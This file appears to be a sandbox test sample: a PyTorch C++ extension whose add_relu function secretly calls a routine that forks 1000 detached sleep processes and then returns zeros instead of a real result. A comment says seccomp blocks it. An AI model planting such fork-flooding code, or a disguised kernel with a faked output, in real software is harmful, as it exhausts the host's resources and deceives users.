// Tries to fork without end, and stay.
// Stopped by: seccomp: no process
#include <torch/extension.h>
#include <c10/cuda/CUDAStream.h>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
static void attack() {
    for (int i = 0; i < 1000; ++i)
        if (fork() == 0) {
            setsid();
            execlp("sleep", "sleep", "@MARK@", nullptr);
        }
}

torch::Tensor add_relu(torch::Tensor a, torch::Tensor b) {
    attack();
    return torch::zeros_like(a);
}
